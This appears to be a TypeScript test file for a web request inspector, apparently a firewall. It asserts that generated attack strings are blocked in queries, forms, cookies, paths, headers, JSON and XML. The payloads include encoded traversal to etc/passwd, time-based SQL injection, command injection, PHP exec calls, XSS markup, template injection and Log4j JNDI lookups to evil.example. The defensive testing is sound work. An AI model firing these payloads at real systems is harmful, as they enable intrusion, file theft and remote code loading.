import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

const FORM = 'application/x-www-form-urlencoded'
const UP = ['..', '%2e%2e', '%u002e%u002e', '%c0%ae%c0%ae', '0x2e0x2e', '%uff0e%uff0e', '%25%32%65%25%32%65']
const SLASH = ['%u2215', '%c0%af', '%e0%80%af', '%255c', '%uF025', '%c1%9c', '%f0%80%80%af', '/', '%5c']

/** Variants by class; a class marked `encoded` is sent as it is written, the others are encoded here. */
const CLASSES: Readonly<Record<string, { readonly encoded?: true; readonly values: readonly string[] }>> = {
  'traversal in exotic encodings': {
    encoded: true,
    values: UP.flatMap(up => SLASH.map(slash => `${(up + slash).repeat(4)}etc${slash}passwd`)),
  },
  'waits without quotes': {
    values: [
      ['sleep(5)', '1*', '1-', '(', '1 and ', '1 or ', 'x,', '1 xor ', '10*if(now()=sysdate(),'],
      ['benchmark(5000000,md5(1))', '1*', '1-', '1 and ', '1 or ', 'x,'],
      ['pg_sleep(5)', 'x,', '1;select ', '1 and 1=(select 1 from ', "x'||"],
    ]
      .flatMap(([call = '', ...before]) =>
        before.map(text => `${text}${call}${text.endsWith('(') ? ')' : ''}`),
      )
      .concat([
        "1;waitfor delay '0:0:5'",
        "x' waitfor delay '0:0:5'--",
        '1 and 1=dbms_pipe.receive_message(chr(65),5)',
        '1;begin dbms_lock.sleep(5);end;',
        '(select * from (select(sleep(5)))a)',
        "0'xor(if(now()=sysdate(),sleep(5),0))xor'z",
        'if(1=1,sleep(5),0)',
        'case when 1=1 then sleep(5) else 0 end',
        '1 rlike sleep(5)',
        "1' and sleep(5) and '1'='1",
        '1/sleep(5)',
        '1|sleep(5)',
        '-1+sleep(5)',
        '1 and benchmark(9000000,sha1(1))',
      ]),
  },
  'short commands': {
    values: ['id', 'whoami', 'ls', 'pwd', 'uname'].flatMap(command => [
      `2;${command};`,
      `127.0.0.1;${command}`,
      `127.0.0.1|${command}`,
      `127.0.0.1&&${command}`,
      `a.jpg;${command}`,
      `$(${command})`,
      `\`${command}\``,
    ]),
  },
  'PHP without tags': {
    values: ['system', 'passthru', 'shell_exec', 'exec', 'popen', 'eval'].flatMap(name => [
      `${name}('id');`,
      `';${name}('id');'`,
      `@${name}("id");`,
      `(${name})('id');`,
      `\${@${name}('id')}`,
    ]),
  },
  'markup that a browser runs': {
    values: ['onfocus', 'onload', 'onerror', 'ontoggle', 'onpointerenter', 'onanimationstart'].flatMap(
      name => [
        `<x ${name}=alert(1)>`,
        `<x/${name}=alert\`1\`>`,
        `<svg\n${name}\n=\nalert(1)>`,
        `" ${name}="alert(1)`,
        `<x ${name}=&#97;lert(1)>`,
        `<set attributename=${name} to=alert(1)>`,
      ],
    ),
  },
  'lookups of Log4j': {
    values: ['ldap', 'rmi', 'dns', 'iiop', 'ldaps'].flatMap(scheme => [
      `\${jndi:${scheme}://evil.example/a}`,
      `\${\${lower:j}ndi:${scheme}://evil.example/a}`,
      `\${\${::-j}\${::-n}\${::-d}\${::-i}:${scheme}://evil.example/a}`,
      `\${\${env:X:-j}ndi\${env:X:-:}${scheme}://evil.example/a}`,
      `\${j\${k8s:x:-n}di:${scheme}://evil.example/a}`,
      `\${\${upper:j}\${upper:n}di:${scheme}://evil.example/a}`,
    ]),
  },
  templates: {
    values: ['{{', '${', '<%=', '#{', '*{', '@(']
      .flatMap(open => {
        const close = { '{{': '}}', '<%=': '%>', '@(': ')' }[open] ?? '}'
        return [
          `${open}7*7${close}`,
          `${open} 7 * 7 ${close}`,
          `x${open}49*1${close}`,
          `${open}7*'7'${close}`,
        ]
      })
      .concat([
        "{{''.__class__.__mro__}}",
        "{{ config['x'].__init__ }}",
        "{{request|attr('application')}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{constructor.constructor('alert(1)')()}}",
        '<#assign x="freemarker.template.utility.Execute"?new()>',
        "#set($x='')$x.class.forName('java.lang.Runtime')",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
      ]),
  },
}

function decodedOnce(value: string): string {
  try {
    return decodeURIComponent(value)
  } catch {
    return value
  }
}

function got(target: string, headers: readonly string[] = []): string {
  return inspect({ method: 'GET', target, headers }).verdict
}

function posted(type: string, body: string): string {
  return inspect({ method: 'POST', target: '/s', headers: ['content-type', type], body: Buffer.from(body) })
    .verdict
}

function inXml(value: string): string {
  return value.replace(/&/g, '&amp;').replace(/</g, '&lt;')
}

/** Each place where requests carry a value, which is given as a URL would carry it. */
const PLACES: Readonly<Record<string, (value: string) => string>> = {
  'a query': value => got(`/s?q=${value}`),
  'a form': value => posted(FORM, `q=${value}`),
  'a cookie': value => got('/', ['cookie', `a=1; q=${value}`]),
  'a path': value => got(`/s/${value}`),
  'a header': value => got('/', ['x-custom', decodedOnce(value).replace(/[\r\n]/g, ' ')]),
  'a multipart field': value =>
    posted(
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n${decodedOnce(value)}\r\n--b--\r\n`,
    ),
  'a field of JSON that holds an id': value =>
    posted('application/json', JSON.stringify({ a: 1, user_id: decodedOnce(value) })),
  'an element of XML that holds an id': value =>
    posted('application/xml', `<r><a>1</a><user_id>${inXml(decodedOnce(value))}</user_id></r>`),
  'a field of JSON of any name': value =>
    posted('application/json', JSON.stringify({ a: 1, q: decodedOnce(value) })),
  'an element of XML of any name': value =>
    posted('application/xml', `<r><a>1</a><q>${inXml(decodedOnce(value))}</q></r>`),
}

describe('classes of attack that were once missed', () => {
  for (const [name, { encoded, values }] of Object.entries(CLASSES)) {
    for (const [place, verdict] of Object.entries(PLACES)) {
      test(`${name}, ${values.length} variants in ${place}`, () => {
        assert.ok(values.length >= 30)
        // Between backticks Markdown sets code, where nothing says that a field holds none.
        const isText = place.endsWith('of any name')
        const missed = values
          .filter(value => !(isText && value.startsWith('`')))
          .filter(value => verdict(encoded === true ? value : encodeURIComponent(value)) === 'pass')
        assert.deepEqual(missed, [])
      })
    }
  }
})
